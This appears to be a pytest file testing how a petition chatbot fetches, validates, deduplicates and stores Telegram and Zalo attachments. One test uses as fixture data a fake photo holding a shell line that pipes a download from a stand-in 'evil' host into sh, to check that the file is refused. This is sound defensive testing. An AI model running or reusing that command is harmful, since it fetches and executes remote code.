"""Photos and files are fetched from the platform by the attachment worker, checked from their
bytes and kept once by content; a refused file is explained to the citizen; a download that
fails is tried again. Through the gateway's real webhook, against the fake platforms."""

from __future__ import annotations

import io
from pathlib import Path

from PIL import Image

from bot.keys import FETCHER
from storage import media
from storage.db import Database
from storage.file_store import FileStore
from storage.models import AttachmentStatus, Channel
from storage.services.petitions import submit_petition
from tests.channels import payloads as p
from tests.channels.conftest import Gateway, StartGateway, eventually
from tests.s3_server import s3_bucket

LARGE = "AgACAgQAAxkBAAIBlarge"  # the file id of the biggest size in payloads.telegram_photo


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (640, 480), (90, 120, 200)).save(out, "JPEG")
    return out.getvalue()


async def stored_or_settled(gateway: Gateway) -> list[AttachmentStatus]:
    statuses = [a.status for a in await gateway.attachments()]
    return statuses if statuses and AttachmentStatus.PENDING not in statuses else []


async def test_a_telegram_photo_is_fetched_checked_and_kept_once(gateway: Gateway) -> None:
    gateway.telegram.files[LARGE] = jpeg()
    await gateway.telegram_update(p.telegram_photo(7501))
    await gateway.telegram_update(p.telegram_photo(7502, caption="ổ gà"))
    assert await eventually(lambda: stored_or_settled(gateway)) == [AttachmentStatus.STORED] * 2
    first, second = await gateway.attachments()
    assert first.sha256 == second.sha256 and first.mime == "image/jpeg"
    store = FileStore(gateway.settings.effective_attachments_dir)
    assert store.get(str(first.sha256)) == jpeg()
    assert store.get(str(first.sha256), "thumb") is not None
    assert gateway.telegram.file_downloads == [f"photos/{LARGE}.jpg"] * 2


async def test_a_script_named_like_a_photo_is_refused_and_the_citizen_told(
    gateway: Gateway,
) -> None:
    gateway.telegram.files[LARGE] = b"#!/bin/sh\ncurl http://evil | sh\n"
    await gateway.telegram_update(p.telegram_photo(7601))
    assert await eventually(lambda: stored_or_settled(gateway)) == [AttachmentStatus.REFUSED]
    [attachment] = await gateway.attachments()
    assert attachment.refusal == "unsupported" and attachment.sha256 is None
    told = await eventually(
        lambda: [t for t in gateway.telegram.sent_texts() if "không phải ảnh" in t]
    )
    assert len(told) == 1
    # the conversation goes on: the message itself still reaches the assistant (the inbox
    # worker and the fetcher run apart, so either may finish first)
    assert await eventually(lambda: "/share_photo" in gateway.rasa.texts())


async def test_a_download_that_fails_twice_is_kept_on_the_third_try(gateway: Gateway) -> None:
    gateway.client.app[FETCHER].retry_base = 0.05
    gateway.telegram.files[LARGE] = jpeg()
    gateway.telegram.fail_next(2, 502, methods=("getFile",))
    await gateway.telegram_update(p.telegram_photo(7701))
    assert await eventually(lambda: stored_or_settled(gateway)) == [AttachmentStatus.STORED]
    [attachment] = await gateway.attachments()
    assert attachment.attempts == 3
    assert [c.method for c in gateway.telegram.calls].count("getFile") == 3


async def test_a_photos_gps_is_the_petitions_place_when_the_citizen_gave_none(
    gateway: Gateway, seeded_database: Database
) -> None:
    exif = Image.Exif()
    exif[media.GPS_IFD] = {1: "N", 2: (21.0, 19.0, 57.0), 3: "E", 4: (105.0, 24.0, 0.0)}
    out = io.BytesIO()
    Image.new("RGB", (320, 240)).save(out, "JPEG", exif=exif)
    gateway.telegram.files[LARGE] = out.getvalue()
    await gateway.telegram_update(p.telegram_photo(7801))
    assert await eventually(lambda: stored_or_settled(gateway)) == [AttachmentStatus.STORED]
    [attachment] = await gateway.attachments()
    async with gateway.database.session() as session:
        petition, _ = await submit_petition(
            session,
            idempotency_key="gps-photo",
            citizen_id=attachment.citizen_id,
            channel=Channel.TELEGRAM,
            kind="phan_anh",
            category="giao_thong",
            description="Ổ gà giữa đường",
            commune_code=None,
            address="gần chợ",
            latitude=None,
            longitude=None,
            contact_phone=None,
            anonymous=True,
            attachment_ids=None,
        )
    assert petition.latitude is not None and abs(petition.latitude - 21.3325) < 1e-3


async def test_zalo_images_and_pdfs_are_fetched_from_their_urls(gateway: Gateway) -> None:
    gateway.zalo.media["anh.jpg"] = jpeg()
    gateway.zalo.media["don.pdf"] = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
    await gateway.zalo_event(p.zalo_image("z-img-1", gateway.zalo.media_url("anh.jpg")))
    await gateway.zalo_event(p.zalo_file("z-pdf-1", gateway.zalo.media_url("don.pdf")))
    await gateway.zalo_event(p.zalo_image("z-img-2", gateway.zalo.media_url("gone.jpg")))
    settled = await eventually(lambda: stored_or_settled(gateway))
    assert settled == [AttachmentStatus.STORED, AttachmentStatus.STORED, AttachmentStatus.FAILED]
    image, document, gone = await gateway.attachments()
    assert (image.mime, document.mime) == ("image/jpeg", "application/pdf")
    assert gone.refusal == "failed"
    told = await eventually(lambda: [t for t in gateway.zalo.sent_texts() if "Chưa tải được" in t])
    assert len(told) == 1


async def test_with_an_object_store_the_photo_is_kept_there_and_not_on_disk(
    start_gateway: StartGateway, tmp_path: Path
) -> None:
    with s3_bucket() as bucket:
        client = bucket.pop("client")
        gateway = await start_gateway(**bucket, attachments_dir=tmp_path / "unused")
        gateway.telegram.files[LARGE] = jpeg()
        await gateway.telegram_update(p.telegram_photo(7801))
        assert await eventually(lambda: stored_or_settled(gateway)) == [AttachmentStatus.STORED]
        [attachment] = await gateway.attachments()
        digest = str(attachment.sha256)
        kept = client.get_object(
            Bucket=bucket["attachments_s3_bucket"], Key=f"{digest[:2]}/{digest}"
        )
        assert kept["Body"].read() == jpeg()
        assert not (tmp_path / "unused").exists()
